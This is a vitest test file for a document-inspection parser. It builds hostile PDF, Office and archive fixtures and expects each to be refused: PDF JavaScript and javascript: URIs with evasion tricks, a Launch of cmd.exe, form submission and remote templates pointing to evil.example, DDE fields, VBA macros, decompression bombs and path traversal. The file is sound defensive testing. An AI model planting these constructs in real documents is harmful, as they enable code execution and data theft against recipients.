import { randomBytes } from 'node:crypto';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { deflateSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { writeZip } from '#test/support/hostile-files/archive.ts';
import { jpeg, png } from '#test/support/hostile-files/image.ts';
import { compoundFile, docxWith, odtWith, relation, sheetRow, xlsxWith } from '#test/support/hostile-files/office.ts';
import { appendRevision, encryptedPdf, packed, packedZeros, pdfOfPages, pdfWith } from '#test/support/hostile-files/pdf.ts';
import { makeHolder } from '#test/support/signing/authority.ts';
import { makeCms } from '#test/support/signing/cms.ts';
import { makePdf, signPdf } from '#test/support/signing/pdf.ts';
import { createFileParser, type FileParser } from './inspect.ts';
import { FileRefusal, type FilePurpose, type InspectedFile } from './rules.ts';

let tempDir: string;
let parser: FileParser;
let count = 0;

beforeAll(async () => {
	tempDir = await mkdtemp(path.join(os.tmpdir(), 'eiso-inspect-'));
	parser = createFileParser({ tempDir, filesEach: 1000 });
});
afterAll(async () => {
	await parser.close();
	await rm(tempDir, { recursive: true });
});

async function inspect(bytes: Buffer, fileName: string, purpose: FilePurpose, by = parser): Promise<InspectedFile> {
	const file = path.join(tempDir, String((count += 1)));
	await writeFile(file, bytes);
	try {
		return await by.inspect(file, { fileName, purpose });
	} finally {
		await rm(file);
	}
}

/** The code of the refusal; the result when there was none, so that a failing test shows it. */
async function verdict(bytes: Buffer, fileName = 'a.pdf', purpose: FilePurpose = 'reading', by = parser): Promise<unknown> {
	try {
		return await inspect(bytes, fileName, purpose, by);
	} catch (error) {
		if (error instanceof FileRefusal) return error.code;
		throw error;
	}
}

const source = (bytes: Buffer, fileName = 'a.docx') => verdict(bytes, fileName, 'source');

describe('a PDF', () => {
	it('comes in with its pages, their sizes as they are seen, and its version', async () => {
		expect(await inspect(pdfWith(), 'Quy trình.PDF', 'reading')).toEqual({
			type: 'pdf',
			pages: 1,
			pageSizes: [{ width: 595, height: 842 }],
			pdfVersion: '1.7'
		});
		const turned = await inspect(pdfWith({ page: '/Rotate 90 /CropBox [0 0 300 400]' }), 'a.pdf', 'reading');
		expect(turned.pageSizes).toEqual([{ width: 400, height: 300 }]);
		expect(await inspect(await packed(pdfWith()), 'a.pdf', 'scan')).toMatchObject({ pages: 1 });
		expect(await inspect(pdfOfPages(2000), 'a.pdf', 'reading')).toMatchObject({ pages: 2000 });
	});

	it('may link inside itself and to the web, and may have form fields', async () => {
		const link = '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://hatinh.gov.vn) >> >>]';
		expect(await verdict(pdfWith({ page: link }))).toMatchObject({ type: 'pdf' });
		expect(await verdict(pdfWith({ catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] >>' }))).toMatchObject({
			pages: 1
		});
		const field = '<< /FT /Tx /T (a) /Subtype /Widget /Rect [0 0 9 9] >>';
		const form = { catalog: '/AcroForm << /Fields [10 0 R] >>', page: '/Annots [10 0 R]', objects: { 10: field } };
		expect(await verdict(pdfWith(form))).toMatchObject({ type: 'pdf' });
		expect(await verdict(pdfWith({ catalog: '/Names << /EmbeddedFiles << /Names [] >> >>' }))).toMatchObject({
			pages: 1
		});
	});

	it('with a password is refused, and one that only its owner locked says so', async () => {
		expect(await verdict(await encryptedPdf({ user: 'a', owner: 'b' }))).toBe('pdf_encrypted');
		expect(await verdict(await encryptedPdf({ owner: 'b' }))).toBe('pdf_owner_password');
		const foreign = pdfWith({ trailer: '/Encrypt << /Filter /Adobe.PubSec /V 4 >> /ID [<00> <00>]' });
		expect(await verdict(foreign)).toBe('pdf_encrypted');
	});

	it('that is cut, damaged or not one at all is refused', async () => {
		const whole = pdfWith();
		for (const part of [0.1, 0.5, 0.9, 0.99]) {
			expect(await verdict(whole.subarray(0, Math.floor(whole.length * part)))).toBe('pdf_broken');
		}
		expect(await verdict(Buffer.from('%PDF-1.7\nhello'))).toBe('pdf_broken');
		expect(await verdict(Buffer.concat([Buffer.from('%PDF-1.7\n'), randomBytes(5000), Buffer.from('startxref\n9\n%%EOF')]))).toBe(
			'pdf_broken'
		);
		expect(await verdict(Buffer.concat([Buffer.from('MZ'), whole]))).toBe('pdf_broken');
		expect(await verdict(pdfWith({ content: { dict: '/Filter /FlateDecode', bytes: randomBytes(200) } }))).toBe('pdf_broken');
		expect(await verdict(pdfOfPages(0))).toBe('pdf_broken');
		expect(await verdict(Buffer.alloc(0))).toBe('file_empty');
	});

	const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
	const active: Record<string, Parameters<typeof pdfWith>[0]> = {
		'a script on opening': { catalog: `/OpenAction ${script}` },
		'a script under an escaped name': { catalog: '/OpenAction << /S /J#61vaScript /JS (1) >>' },
		'a script in the names tree': { catalog: `/Names << /JavaScript << /Names [(a) ${script}] >> >>` },
		'a script in a names tree elsewhere': {
			catalog: '/Names 10 0 R',
			objects: { 10: '<< /JavaScript 11 0 R >>', 11: '<< /Kids [12 0 R] >>', 12: `<< /Names [(a) ${script}] >>` }
		},
		'a script behind a harmless action': { catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next ${script} >>` },
		'a script when a page opens': { page: `/AA << /O ${script} >>` },
		'a script on closing': { catalog: `/AA << /WC ${script} >>` },
		'a script in a field': {
			catalog: '/AcroForm << /Fields [10 0 R] >>',
			objects: { 10: `<< /FT /Tx /T (a) /Subtype /Widget /Rect [0 0 9 9] /AA << /K ${script} >> >>` }
		},
		'a script in a note': { page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${script} >>]` },
		'a script by an indirect name': { catalog: '/OpenAction << /S 10 0 R /JS (1) >>', objects: { 10: '/JavaScript' } },
		'a web address that is a script': { catalog: '/OpenAction << /S /URI /URI (javascript:alert\\(1\\)) >>' },
		'a script behind a control character': { catalog: '/OpenAction << /S /URI /URI (\\001javascript:alert\\(1\\)) >>' },
		'a script cut by a tab': { catalog: '/OpenAction << /S /URI /URI (java\\tscript:alert\\(1\\)) >>' },
		'a script as the base of all addresses': { catalog: '/URI << /Base (java\\nscript:) >>' },
		'an order to print': { catalog: '/OpenAction << /S /Named /N /Print >>' },
		'a program to start': { catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' },
		'a form to send': { catalog: '/OpenAction << /S /SubmitForm /F (http://evil.example) >>' },
		'an embedded file': {
			catalog: '/Names << /EmbeddedFiles << /Names [(a) 10 0 R] >> >>',
			objects: {
				10: '<< /Type /Filespec /F (a.exe) /EF << /F 11 0 R >> >>',
				11: { dict: '', bytes: Buffer.from('MZ') }
			}
		},
		'a file in a note': {
			page: '/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] >>]'
		},
		'rich media': { page: '/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]' },
		'an XFA form': {
			catalog: '/AcroForm << /Fields [] /XFA 10 0 R >>',
			objects: { 10: { dict: '', bytes: Buffer.from('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>') } }
		},
		'a file on another machine': {
			catalog: '/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) /D [0 /Fit] >>'
		},
		'a script in an object the parser cannot read': { objects: { 10: '<< /S /JavaScript /JS (1) /Bad [ >>' } }
	};

	it.each(Object.entries(active))('with %s is refused', async (_what, options) => {
		expect(await verdict(pdfWith(options))).toBe('pdf_active_content');
	});

	it.each(Object.entries(active).filter(([what]) => !what.includes('cannot read')))(
		'with %s is refused when the objects are packed',
		async (_what, options) => {
			expect(await verdict(await packed(pdfWith(options)))).toBe('pdf_active_content');
		}
	);

	it('with a script that no search of its bytes finds is refused', async () => {
		const file = await packed(pdfWith({ catalog: '/OpenAction 10 0 R', objects: { 10: script } }));
		expect(file.includes('JavaScript')).toBe(false);
		expect(await verdict(file)).toBe('pdf_active_content');
	});

	it('with a script that a later revision hides is refused', async () => {
		const file = pdfWith({ catalog: '/OpenAction 10 0 R', objects: { 10: script } });
		expect(await verdict(appendRevision(file, { 10: '<< /S /GoTo /D [3 0 R /Fit] >>' }))).toBe('pdf_active_content');
		expect(await verdict(appendRevision(pdfWith(), { 9: '<< /A 1 >>' }))).toMatchObject({ pages: 1 });
	});

	it('that would swell, or is larger than any paper, is refused', async () => {
		const swelling = { dict: '/Filter /FlateDecode', bytes: packedZeros(80) };
		expect(await verdict(pdfWith({ content: swelling }))).toBe('pdf_too_complex');
		const twice = { dict: '/Filter [/FlateDecode /FlateDecode]', bytes: deflateSync(packedZeros(80)) };
		expect(await verdict(pdfWith({ objects: { 10: twice } }))).toBe('pdf_too_complex');
		const many = Object.fromEntries(
			Array.from({ length: 12 }, (_stream, index) => [index + 10, { dict: '/Filter /FlateDecode', bytes: packedZeros(60) }])
		);
		expect(await verdict(pdfWith({ objects: many }))).toBe('pdf_too_complex');
		expect(await verdict(pdfWith({ mediaBox: '[0 0 20000 20000]' }))).toBe('pdf_too_complex');
		expect(await verdict(pdfWith({ mediaBox: '[0 0 595 842]', page: '/UserUnit 100' }))).toBe('pdf_too_complex');
		expect(await verdict(pdfOfPages(2001))).toBe('pdf_too_complex');
		const image = '/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceGray /BitsPerComponent 8';
		expect(await verdict(pdfWith({ objects: { 10: { dict: image, bytes: Buffer.alloc(10) } } }))).toBe('pdf_too_complex');
	});

	it('whose drawings draw each other without end is refused', async () => {
		const levels = 10;
		const draw = Buffer.from('/X Do '.repeat(10));
		const forms = Object.fromEntries(
			Array.from({ length: levels }, (_form, level) => [
				level + 10,
				{
					dict: `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X ${level + 11} 0 R >> >>`,
					bytes: level === levels - 1 ? Buffer.from('0 0 9 9 re f') : draw
				}
			])
		);
		const page = '/Resources << /XObject << /X 10 0 R >> >>';
		expect(await verdict(pdfWith({ page, content: { dict: '', bytes: draw }, objects: forms }))).toBe('pdf_too_complex');
		const loop = {
			dict: '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 10 0 R >> >>',
			bytes: draw
		};
		expect(await verdict(pdfWith({ page, content: { dict: '', bytes: draw }, objects: { 10: loop } }))).toBe('pdf_too_complex');
		const deep = `/Deep ${'['.repeat(200_000)}${']'.repeat(200_000)}`;
		expect(await verdict(pdfWith({ page: deep }))).toMatch(/^pdf_(?:broken|too_complex)$/);
	});

	it('that would take a program for ever to draw is refused', async () => {
		const form = { dict: '/Type /XObject /Subtype /Form /BBox [0 0 9 9]', bytes: Buffer.alloc(1024 * 1024, '0 0 m 9 9 l S ') };
		const page = '/Resources << /XObject << /X 10 0 R >> >>';
		const drawn = (times: number) => ({ page, content: { dict: '', bytes: Buffer.from('/X Do '.repeat(times)) }, objects: { 10: form } });
		expect(await verdict(pdfWith(drawn(200)))).toMatchObject({ pages: 1 });
		expect(await verdict(pdfWith(drawn(300)))).toBe('pdf_too_complex');
		const tiles = (steps: string) => ({
			dict: `/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 9 9] ${steps} /Resources << >>`,
			bytes: Buffer.from('0 0 9 9 re f')
		});
		expect(await verdict(pdfWith({ objects: { 10: tiles('/XStep 1 /YStep 1') } }))).toMatchObject({ pages: 1 });
		expect(await verdict(pdfWith({ objects: { 10: tiles('/XStep 0.01 /YStep 0.01') } }))).toBe('pdf_too_complex');
		expect(await verdict(pdfWith({ objects: { 10: tiles('/XStep 0 /YStep 9') } }))).toBe('pdf_too_complex');
		expect(await verdict(pdfWith({ objects: { 10: tiles('/XStep 9 /YStep 9 /Matrix [0.001 0 0 0.001 0 0]') } }))).toBe('pdf_too_complex');
	});

	it('with another file behind it is refused', async () => {
		const zip = writeZip([{ name: 'a.js', bytes: 'a' }]);
		expect(await verdict(Buffer.concat([pdfWith(), zip]))).toBe('pdf_other_file');
		expect(await verdict(Buffer.concat([pdfWith(), Buffer.from('\n\n<html><script>')]))).toBe('pdf_other_file');
		expect(await verdict(Buffer.concat([pdfWith(), Buffer.from('.'), zip]))).toBe('pdf_other_file');
		expect(await verdict(Buffer.concat([pdfWith(), Buffer.from('\r\n\0\0')]))).toMatchObject({ pages: 1 });
		expect(await verdict(pdfWith({ objects: { 10: { dict: '', bytes: zip } } }))).toBe('pdf_other_file');
	});

	it('whose object stream is a bomb does not take the machine with it', async () => {
		const bomb = { dict: '/Type /ObjStm /N 1 /First 10 /Filter /FlateDecode', bytes: packedZeros(600) };
		const small = createFileParser({ tempDir, memoryMb: 300 });
		try {
			expect(await verdict(pdfWith({ objects: { 10: bomb } }), 'a.pdf', 'reading', small)).toBe('pdf_too_complex');
		} finally {
			await small.close();
		}
	});
});

describe('a Word, Excel or OpenDocument file', () => {
	it('comes in as what it is', async () => {
		expect(await source(docxWith())).toMatchObject({ type: 'docx', pages: null });
		expect(await source(xlsxWith(), 'a.xlsx')).toMatchObject({ type: 'xlsx' });
		expect(await source(odtWith(), 'a.odt')).toMatchObject({ type: 'odt' });
		const chart = { name: 'word/embeddings/Microsoft_Excel_Sheet.xlsx', bytes: xlsxWith(), stored: true };
		expect(await source(docxWith({ parts: [chart] }))).toMatchObject({ type: 'docx' });
	});

	it('with 100,000 rows comes in', async () => {
		const rows = Array.from({ length: 100_000 }, (_row, index) => sheetRow([`QT-${index}`, 'Quy trình tiếp nhận'], index + 1));
		expect(await source(xlsxWith({ sheetData: rows.join('') }), 'a.xlsx')).toMatchObject({ type: 'xlsx' });
	});

	const vba = { name: 'word/vbaProject.bin', bytes: compoundFile('VBA') };
	it.each([
		['a macro project', docxWith({ parts: [vba] }), 'a.docx'],
		['a macro project under another name', docxWith({ parts: [{ ...vba, name: 'word/media/a.png' }] }), 'a.docx'],
		['the type of a DOCM', docxWith({ mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml' }), 'a.docx'],
		['the type of an XLSM', xlsxWith({ mainType: 'application/vnd.ms-excel.sheet.macroEnabled.main+xml' }), 'a.xlsx'],
		[
			'an Excel 4 macro sheet',
			xlsxWith({
				types: '<Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>',
				parts: [{ name: 'xl/macrosheets/sheet1.xml', bytes: '<xm:macrosheet/>' }]
			}),
			'a.xlsx'
		],
		['an OLE object', docxWith({ parts: [{ name: 'word/embeddings/oleObject1.bin', bytes: compoundFile('Ole') }] }), 'a.docx'],
		['a program', docxWith({ parts: [{ name: 'word/a.exe', bytes: 'MZ' }] }), 'a.docx'],
		['another archive', docxWith({ parts: [{ name: 'word/media/a.bin', bytes: writeZip([{ name: 'a', bytes: 'a' }]) }] }), 'a.docx'],
		[
			'a workbook with macros inside',
			docxWith({
				parts: [{ name: 'word/embeddings/a.xlsx', bytes: xlsxWith({ parts: [{ ...vba, name: 'xl/vbaProject.bin' }] }) }]
			}),
			'a.docx'
		],
		['a Basic library', odtWith({ parts: [{ name: 'Basic/Standard/Module1.xml', bytes: '<a/>' }] }), 'a.odt'],
		['a script event', odtWith({ content: '<script:event-listener script:language="ooo:script"/>' }), 'a.odt']
	])('with %s is refused', async (_what, bytes, fileName) => {
		expect(await source(bytes, fileName)).toBe('office_macros');
	});

	it.each([
		['a template from the web', docxWith({ relations: relation('attachedTemplate', 'http://evil.example/a.dotm') })],
		['a template on another machine', docxWith({ relations: relation('attachedTemplate', 'file:///\\\\evil\\a.dotm') })],
		['a linked object', docxWith({ relations: relation('oleObject', 'file:///C:/a.xls') })],
		['a picture from the web', docxWith({ relations: relation('image', 'http://evil.example/a.png') })],
		['a frame', docxWith({ relations: relation('frame', 'http://evil.example/') })],
		['a script behind a link', docxWith({ relations: relation('hyperlink', 'javascript:alert(1)') })],
		['a script behind a link, cut by a tab', docxWith({ relations: relation('hyperlink', '&#1;java&#9;script:alert(1)') })],
		['a mode in single quotes', docxWith({ relations: relation('oleObject', 'http://a').replaceAll('"', "'") })],
		['an escaped mode', docxWith({ relations: relation('oleObject', 'http://a', '&#69;xternal') })],
		[
			'a field that starts a program, cut in two',
			docxWith({
				body: '<w:p><w:r><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\cmd.exe</w:instrText></w:r></w:p>'
			})
		]
	])('with %s is refused', async (_what, bytes) => {
		expect(await source(bytes)).toBe('office_external_link');
	});

	it('may have links to click and the template of the machine it was written on', async () => {
		const relations = relation('hyperlink', 'https://hatinh.gov.vn') + relation('attachedTemplate', 'file:///C:\\Users\\an\\a.dotx');
		expect(await source(docxWith({ relations }))).toMatchObject({ type: 'docx' });
	});

	it.each([
		['a claimed size of gigabytes', writeZip([{ name: 'a', bytes: 'a', claims: { size: 4_000_000_000 } }]), 'archive_bomb'],
		['zeros without end', docxWith({ parts: [{ name: 'word/a.xml', bytes: Buffer.alloc(80_000_000) }] }), 'archive_bomb'],
		[
			'more bytes than it claims',
			docxWith({ parts: [{ name: 'word/a.xml', bytes: Buffer.alloc(9_000_000, '<a/>'), claims: { size: 100 } }] }),
			'archive_bomb'
		],
		['too many parts', writeZip(Array.from({ length: 5001 }, (_part, index) => ({ name: `p${index}`, bytes: '' }))), 'archive_bomb'],
		[
			'a document type',
			docxWith({
				parts: [{ name: 'word/a.xml', bytes: '<?xml version="1.0"?><!-- a --><!DOCTYPE a [<!ENTITY b "c">]><a/>' }]
			}),
			'office_doctype'
		],
		[
			'an encoding that few programs read',
			docxWith({ parts: [{ name: 'word/a.xml', bytes: '<?xml version="1.0" encoding="utf-7"?><a/>' }] }),
			'office_broken'
		],
		['a path upwards', docxWith({ parts: [{ name: '../../a.xml', bytes: 'a' }] }), 'archive_unsafe_name'],
		['an absolute path', docxWith({ parts: [{ name: '/etc/passwd', bytes: 'a' }] }), 'archive_unsafe_name'],
		['a Windows path', docxWith({ parts: [{ name: 'C:\\a', bytes: 'a' }] }), 'archive_unsafe_name'],
		['a name twice', docxWith({ parts: [{ name: 'WORD/document.xml', bytes: 'a' }] }), 'archive_unsafe_name'],
		['two names for one part', docxWith({ parts: [{ name: 'a', bytes: 'a', claims: { localName: 'b' } }] }), 'office_broken'],
		['a wrong checksum', docxWith({ parts: [{ name: 'a', bytes: 'a', claims: { crc: 1 } }] }), 'office_broken'],
		['a locked part', docxWith({ parts: [{ name: 'a', bytes: 'a', claims: { flags: 1 } }] }), 'office_encrypted'],
		['half of it missing', docxWith().subarray(0, 600), 'office_broken'],
		['a password (DOCX)', compoundFile('EncryptedPackage'), 'office_encrypted'],
		['the form of Word 97', compoundFile('WordDocument'), 'office_old_format']
	])('with %s is refused', async (_what, bytes, code) => {
		expect(await source(bytes)).toBe(code);
	});

	it('with a password (ODT) is refused', async () => {
		expect(await source(odtWith({ manifest: '<manifest:encryption-data/>' }), 'a.odt')).toBe('office_encrypted');
	});
});

describe('a file of another type', () => {
	it.each([
		['a program named .docx', Buffer.from('MZ\x90\x00'), 'a.docx', 'source', 'type_not_allowed'],
		['a program named .pdf', Buffer.from('MZ\x90\x00'), 'a.pdf', 'reading', 'type_not_allowed'],
		['a web page named .pdf', Buffer.from('<html><script>'), 'a.pdf', 'reading', 'type_not_allowed'],
		['something unknown', randomBytes(100).fill(7, 0, 8), 'a.pdf', 'reading', 'type_unknown'],
		['a PDF named .docx', pdfWith(), 'a.docx', 'source', 'type_mismatch'],
		['a DOCX named .pdf', docxWith(), 'a.pdf', 'reading', 'type_mismatch'],
		['an XLSX named .docx', xlsxWith(), 'a.docx', 'source', 'type_mismatch'],
		['a DOCX as the reading file', docxWith(), 'a.docx', 'reading', 'type_not_allowed'],
		['a plain ZIP', writeZip([{ name: 'a.txt', bytes: 'a' }]), 'a.docx', 'source', 'type_not_allowed'],
		['a slide show', docxWith({ mainType: 'presentationml.presentation.main+xml' }), 'a.docx', 'source', 'type_not_allowed'],
		['a picture as the reading file', png(10, 10), 'a.png', 'reading', 'type_not_allowed']
	] as const)('%s is refused', async (_what, bytes, fileName, purpose, code) => {
		expect(await verdict(bytes, fileName, purpose)).toBe(code);
	});

	it('a scan may be a picture, whole and of a sane size', async () => {
		expect(await verdict(png(100, 50), 'a.png', 'scan')).toMatchObject({ type: 'png' });
		expect(await verdict(jpeg(100, 50), 'a.JPG', 'scan')).toMatchObject({ type: 'jpeg' });
		expect(await verdict(png(100, 50).subarray(0, 60), 'a.png', 'scan')).toBe('image_broken');
		expect(await verdict(jpeg(100, 50).subarray(0, 80), 'a.jpg', 'scan')).toBe('image_broken');
		expect(await verdict(png(1, 1, { width: 60_000, height: 60_000 }), 'a.png', 'scan')).toBe('image_too_large');
		expect(await verdict(jpeg(60_000, 60_000), 'a.jpg', 'scan')).toBe('image_too_large');
	});
});

describe('the process that looks into files', () => {
	it('is ended when it takes too long, and the next file gets a new one', async () => {
		const impatient = createFileParser({ tempDir, timeoutMs: 50 });
		const file = path.join(tempDir, 'slow');
		await writeFile(file, pdfOfPages(2000));
		await expect(impatient.inspect(file, { fileName: 'a.pdf', purpose: 'reading' })).rejects.toMatchObject({
			code: 'pdf_too_complex',
			params: { what: 'time' }
		});
		await impatient.close();
		expect(await verdict(pdfWith())).toMatchObject({ pages: 1 });
	});

	it('is not taken for a file’s fault when it goes because it had nothing to do', async () => {
		const restless = createFileParser({ tempDir, idleMs: 1 });
		const file = path.join(tempDir, 'after a rest');
		await writeFile(file, pdfWith());
		for (let round = 0; round < 4; round += 1) {
			expect(await restless.inspect(file, { fileName: 'a.pdf', purpose: 'reading' })).toMatchObject({ pages: 1 });
			// Its time is over and it is ended, but nobody has heard of its end yet.
			await new Promise((resolve) => setTimeout(resolve, 1));
		}
		await restless.close();
	});

	it('cannot read outside its folder', async () => {
		await expect(parser.inspect('/etc/passwd', { fileName: 'a.pdf', purpose: 'reading' })).rejects.toThrow(/ERR_ACCESS|restricted/);
	});
});

describe('a PDF signed outside', () => {
	const root = makeHolder({ name: 'Root', isCa: true });
	const signer = makeHolder({ name: 'Signer', issuer: root });

	it('comes in, and its signatures are checked in the process with limits', async () => {
		const bytes = await signPdf(await makePdf(), { sign: (content) => makeCms(content, { signer }) });
		expect(await verdict(bytes, 'a.pdf', 'scan')).toMatchObject({ type: 'pdf', pages: 1 });
		const file = path.join(tempDir, String((count += 1)));
		await writeFile(file, bytes);
		const about = { at: new Date('2026-11-26T00:00:00Z'), size: bytes.length };
		expect(await parser.signatures(file, { ...about, anchors: [root.certificate] })).toMatchObject({ verdict: 'valid' });
		expect(await parser.signatures(file, { ...about, anchors: [] })).toMatchObject({ verdict: 'not_checked' });
		expect(await parser.signatures(path.join(tempDir, 'gone'), { ...about, anchors: [] })).toMatchObject({ problem: 'broken' });
	});

	it('that takes too long is not checked, and says so', async () => {
		const slow = createFileParser({ tempDir, timeoutMs: 1 });
		try {
			const file = path.join(tempDir, String((count += 1)));
			await writeFile(file, await makePdf());
			const about = { at: new Date(), anchors: [], size: 1 };
			expect(await slow.signatures(file, about)).toMatchObject({ verdict: 'not_checked', problem: 'time' });
		} finally {
			await slow.close();
		}
	});
});
